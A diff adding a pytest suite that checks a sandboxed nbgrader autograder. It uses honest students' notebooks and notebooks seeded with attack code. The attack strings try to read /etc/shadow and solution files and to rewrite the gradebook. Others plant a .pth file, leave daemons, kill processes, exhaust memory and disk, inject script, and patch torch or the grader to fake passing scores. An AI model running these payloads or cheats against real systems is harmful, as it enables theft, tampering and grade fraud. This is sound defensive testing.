@@ -1,0 +1,331 @@
+"""A class with honest students and one attacker per known attack, graded by the instructor's workflow.
+
+One `nbgrader autograde` (then generate_feedback and export) on assignment 07 grades everyone, with the
+sandbox and trusted grading of course/grading on, as nbgrader_config.py sets them. Each attacker's cell
+runs its attack, then (for most) answers correctly, so its fair score is known; the cheaters answer part 1
+wrongly or not at all and try to score anyway. Asserted: honest students full marks; every attacker no
+more than its real answers earn; nobody else's score, files or test cells changed; nothing written to
+the course, bertlib or the virtualenv; no process left; no connection made; every student graded;
+feedback without hidden-test source or live script.
+"""
+from __future__ import annotations
+
+import csv
+import os
+import re
+import socket
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from nbgrader_harness import REPO, Course, filled, load_mistakes, read_nb, solution_answers, solution_submission
+
+A = "07_masking"
+pytestmark = [pytest.mark.slow, pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is Linux-only")]
+
+WRONG_SELECT = '''
+def select_for_prediction(input_ids, special_ids, mlm_probability=0.15, generator=None):
+    return torch.zeros(input_ids.shape, dtype=torch.bool)  # wrong: selects nothing
+'''
+
+# Attacks that must not change anyone's grade; each is followed by the student's correct answer.
+CONTAINED = {
+    "reads_secrets": '''
+import glob, os
+for pattern in ["{root}/solutions/**/*", "{root}/gradebook.db", "{root}/submitted/*/*/*.ipynb", "/root/*",
+                "{repo}/solutions/**/*", "/etc/shadow"]:
+    for path in glob.glob(pattern, recursive=True):
+        try:
+            print("READ", path, open(path, errors="replace").read()[:2000])
+        except Exception as e:
+            print("cannot read", path, type(e).__name__)
+print("ENV", sorted(os.environ))
+''',
+    "writes_gradebook": '''
+import sqlite3
+try:
+    db = sqlite3.connect("{root}/gradebook.db")
+    db.execute("update grade set auto_score = 99")
+    db.commit()
+    print("WROTE GRADEBOOK")
+except Exception as e:
+    print("no gradebook:", type(e).__name__, e)
+''',
+    "rewrites_course_files": '''
+import glob
+for path in (glob.glob("{root}/solutions/*/*") + glob.glob("{root}/exercises/*/*") + glob.glob("{root}/submitted/*/*/*")
+             + glob.glob("{root}/autograded/*/*/*") + ["{repo}/bertlib/masking.py", "{site}/evil.pth",
+             "{root}/nbgrader_config.py", "./07_masking.ipynb"]):
+    try:
+        with open(path, "a") as f:
+            f.write("\\n# tampered\\n")
+        print("TAMPERED", path)
+    except Exception as e:
+        print("cannot write", path, type(e).__name__)
+''',
+    "leaves_daemon": '''
+import os
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/bin/sleep", ["sleep", "31337"])
+    os._exit(0)
+''',
+    "connects_to_host": '''
+import socket
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"LEAK")
+    print("CONNECTED")
+except OSError as e:
+    print("no network:", e)
+''',
+    "kills_its_parent": '''
+import os, signal
+for pid in (os.getppid(), 1, -1):  # -1: every process it may signal
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError as e:
+        print("cannot kill", pid, e)
+''',
+    "allocates_3gib": '''
+try:
+    big = torch.empty(3 * 2**30, dtype=torch.uint8).fill_(1)
+    print("ALLOCATED 3 GiB")
+except (MemoryError, RuntimeError) as e:
+    print("no memory:", type(e).__name__)
+big = None
+''',
+    "fills_the_disk": '''
+import os
+for path in ("./big.bin", "/tmp/big.bin", "{root}/big.bin"):
+    try:
+        with open(path, "wb") as f:
+            for _ in range(512):
+                f.write(b"x" * 2**20)
+        print("WROTE 512 MiB to", path)
+    except (OSError, Exception) as e:
+        print("cannot fill", path, type(e).__name__)
+    finally:
+        try:
+            os.remove(path)
+        except OSError:
+            pass
+''',
+    "prints_20mb": '''
+print("x" * 20_000_000)
+''',
+    "injects_script": '''
+from IPython.display import HTML, Javascript, display
+display(HTML("<script>document.title = 'pwned-by-html'</script><b>bold</b>"))
+display(Javascript("document.title = 'pwned-by-js'"))
+''',
+}
+
+# Cheats: part 1 answered wrongly (or through bertlib), plus a trick meant to pass the checks anyway.
+CHEATS = {
+    "patches_torch": '''
+torch.equal = lambda *a, **k: True
+torch.allclose = lambda *a, **k: True
+torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
+''' + WRONG_SELECT,
+    "strips_asserts": '''
+import ast
+class _Strip(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+get_ipython().ast_transformers.append(_Strip())
+''' + WRONG_SELECT,
+    "disables_the_guard": '''
+import contextlib
+bertlib_unavailable = lambda *a, **k: contextlib.nullcontext()
+def select_for_prediction(input_ids, special_ids, mlm_probability=0.15, generator=None):
+    _, labels = bertlib.masking.mask_tokens(input_ids, mask_token_id=MASK, vocab_size=VOCAB_SIZE,
+                                            special_ids=special_ids, mlm_probability=mlm_probability,
+                                            generator=generator)
+    return labels != -100
+''',
+    "copies_code_object": '''
+import types
+_copy = types.FunctionType(bertlib.masking.mask_tokens.__code__, vars(bertlib.masking), "copy",
+                           bertlib.masking.mask_tokens.__defaults__)
+_copy.__kwdefaults__ = bertlib.masking.mask_tokens.__kwdefaults__
+def select_for_prediction(input_ids, special_ids, mlm_probability=0.15, generator=None):
+    _, labels = _copy(input_ids, mask_token_id=MASK, vocab_size=VOCAB_SIZE, special_ids=special_ids,
+                      mlm_probability=mlm_probability, generator=generator)
+    return labels != -100
+''',
+    "reexecutes_source": '''
+import inspect, textwrap
+_ns = dict(vars(bertlib.masking))
+exec(textwrap.dedent(inspect.getsource(bertlib.masking.mask_tokens)), _ns)
+def select_for_prediction(input_ids, special_ids, mlm_probability=0.15, generator=None):
+    _, labels = _ns["mask_tokens"](input_ids, mask_token_id=MASK, vocab_size=VOCAB_SIZE, special_ids=special_ids,
+                                   mlm_probability=mlm_probability, generator=generator)
+    return labels != -100
+''',
+    "fakes_the_grader": '''
+import sys
+from IPython.display import publish_display_data
+from course.grading import wire
+def _fake_serve(text):
+    publish_display_data({"application/x-bert-grader": wire.to_text(wire.encode({"ok": True}))})
+sys.modules["course.grading.kernel_side"].serve = _fake_serve
+''' + WRONG_SELECT,
+}
+KILLS_KERNEL = {"kills_its_kernel": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"}
+
+
+def _tree_digest(*roots: Path, skip=()) -> dict[str, str]:
+    """{path: size and mtime} of every file under ``roots``."""
+    out = {}
+    for root in roots:
+        for path in sorted(Path(root).rglob("*")):
+            rel = str(path)
+            if path.is_file() and not any(part in skip for part in path.parts) and "__pycache__" not in rel:
+                st = path.stat()  # size and modification time: a write changes one (hashing torch is slow)
+                out[rel] = f"{st.st_size}:{st.st_mtime_ns}"
+    return out
+
+
+def _sleepers() -> list[str]:
+    ps = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
+    return [line for line in ps.splitlines() if "sleep 31337" in line]
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    course = Course(tmp_path_factory.mktemp("attacked"), [A])
+    course.generate(A)
+    release, source = course.release(A), course.source(A)
+    answers = solution_answers(source)
+    site = Path(__import__("torch").__file__).parents[1]
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    server.settimeout(0.5)
+    connections, stop = [], threading.Event()
+
+    def accept():
+        while not stop.is_set():
+            try:
+                connections.append(server.accept())
+            except OSError:
+                pass
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    fill = dict(root=course.root, repo=REPO, site=site, port=server.getsockname()[1])
+    course.submit("honest1", A, solution_submission(course, A))
+    course.submit("honest2", A, solution_submission(course, A))
+    for name, attack in {**CONTAINED, **KILLS_KERNEL}.items():
+        course.submit(name, A, filled(release, {**answers, "select": attack.format(**fill) + "\n" + answers["select"]}))
+    for name, cheat in CHEATS.items():
+        course.submit(name, A, filled(release, {**answers, "select": cheat}))
+    # a markdown cell with a script, added by a student
+    nb = solution_submission(course, A)
+    nb.cells.insert(1, __import__("nbformat").v4.new_markdown_cell("<script>document.title='pwned-by-md'</script>hi"))
+    course.submit("script_in_markdown", A, nb)
+
+    watched = [REPO / "bertlib", REPO / "course", site]
+    before_repo = _tree_digest(*watched)
+    before_course = _tree_digest(course.root / "solutions", course.root / "exercises", course.root / "submitted")
+    sleepers_before = _sleepers()
+    run = course.autograde(A)
+    course.generate_feedback(A)
+    grades = course.export_csv()
+    stop.set()
+    thread.join(timeout=2)
+    server.close()
+    return dict(course=course, run=run, grades=grades, connections=connections, before_repo=before_repo,
+                after_repo=_tree_digest(*watched), before_course=before_course,
+                after_course=_tree_digest(course.root / "solutions", course.root / "exercises",
+                                          course.root / "submitted"),
+                sleepers=[s for s in _sleepers() if s not in sleepers_before],
+                full=sum(float(c.metadata["nbgrader"]["points"]) for c in source.cells
+                         if c.metadata.get("nbgrader", {}).get("grade")),
+                part1=float(next(c.metadata["nbgrader"]["points"] for c in source.cells
+                                 if c.metadata.get("nbgrader", {}).get("grade_id") == "test_select")))
+
+
+def _feedback(course, student) -> str:
+    return (course.root / "feedback" / student / A / f"{A}.html").read_text(encoding="utf-8")
+
+
+def test_every_student_is_graded_and_honest_ones_get_full_marks(attacked):
+    course = attacked["course"]
+    students = ["honest1", "honest2", "script_in_markdown", *CONTAINED, *CHEATS, *KILLS_KERNEL]
+    for s in students:
+        assert course.total(A, s) is not None, f"{s} was not graded:\n{attacked['run'].log[-3000:]}"
+    for s in ["honest1", "honest2", "script_in_markdown", *CONTAINED]:
+        assert course.total(A, s) == attacked["full"], f"{s}: {course.scores(A, s)}"
+    rows = list(csv.DictReader(open(attacked["grades"])))
+    assert {r["student_id"] for r in rows} >= set(students)
+
+
+def test_attackers_earn_no_more_than_their_answers(attacked):
+    course = attacked["course"]
+    for s in CHEATS:
+        scores = course.scores(A, s)
+        assert scores["test_select"] == 0, f"{s} scored part 1 with a wrong answer: {scores}"
+        assert course.total(A, s) == attacked["full"] - attacked["part1"], f"{s}: {scores}"
+    for s in KILLS_KERNEL:
+        assert course.total(A, s) == 0, course.scores(A, s)
+
+
+def test_nothing_outside_the_grading_output_changed(attacked):
+    assert attacked["after_repo"] == attacked["before_repo"], "bertlib/, course/ or the virtualenv changed"
+    assert attacked["after_course"] == attacked["before_course"], "solutions/, exercises/ or submitted/ changed"
+    big = [p for p in attacked["course"].root.rglob("*") if p.is_file() and p.stat().st_size > 5 * 2**20]
+    assert not big, f"files over 5 MiB in the course folder: {big}"
+
+
+def test_no_process_left_and_no_connection_made(attacked):
+    assert not attacked["sleepers"], f"processes left after grading: {attacked['sleepers']}"
+    assert not attacked["connections"], "a student kernel connected to a service on the host's loopback"
+
+
+def _outputs(course, student) -> str:
+    """Everything the student's cells printed or displayed while graded (not their source)."""
+    nb = read_nb(course.root / "autograded" / student / A / f"{A}.ipynb")
+    parts = []
+    for cell in nb.cells:
+        for out in cell.get("outputs", []):
+            parts += [out.get("text", ""), out.get("evalue", ""), *map(str, out.get("data", {}).values())]
+    return "\n".join(parts)
+
+
+def test_attacks_saw_nothing(attacked):
+    course = attacked["course"]
+    marker = next(line for line in (REPO / "solutions" / A / "hidden_tests.py").read_text().splitlines()
+                  if "def _tolerance" in line)
+    for s in [*CONTAINED, *CHEATS]:
+        assert marker not in _feedback(course, s), f"{s}'s feedback holds hidden-test source"
+        printed = _outputs(course, s)
+        for leak in ("READ /", "WROTE GRADEBOOK", "TAMPERED", "CONNECTED", "ALLOCATED 3 GiB", "WROTE 512 MiB"):
+            assert leak not in printed, f"{s} printed {leak!r}: the attack worked"
+    printed = _outputs(course, "reads_secrets")
+    assert "ENV" in printed and "HF_HUB_OFFLINE" in printed, printed[:2000]  # it ran, in the sandbox's environment
+    for name in os.environ:
+        if name not in printed.split("ENV", 1)[1][:1] and name.startswith(("SSH", "AWS", "GITHUB", "USER")):
+            assert f"'{name}'" not in printed, f"the instructor's {name} reached the kernel"
+    assert "no gradebook" in _outputs(course, "writes_gradebook")
+    assert "cannot kill" in _outputs(course, "kills_its_parent") or course.total(A, "kills_its_parent") is not None
+
+
+def test_feedback_is_small_and_holds_no_live_script(attacked):
+    course = attacked["course"]
+    for s in ["prints_20mb", "injects_script", "script_in_markdown"]:
+        page = _feedback(course, s)
+        assert len(page) < 2 * 2**20, f"{s}: feedback page of {len(page)} bytes"
+        assert not re.search(r"<script[^>]*>[^<]*pwned", page), f"{s}: a live script in the feedback page"
+    autograded = course.root / "autograded" / "prints_20mb" / A / f"{A}.ipynb"
+    assert autograded.stat().st_size < 2 * 2**20
+
+
+def test_feedback_never_shows_hidden_tests_of_any_cell(attacked):
+    page = _feedback(attacked["course"], "honest1")
+    assert "hidden_tests" not in page.replace("hidden tests", "")
+    assert "BEGIN HIDDEN TESTS" not in page
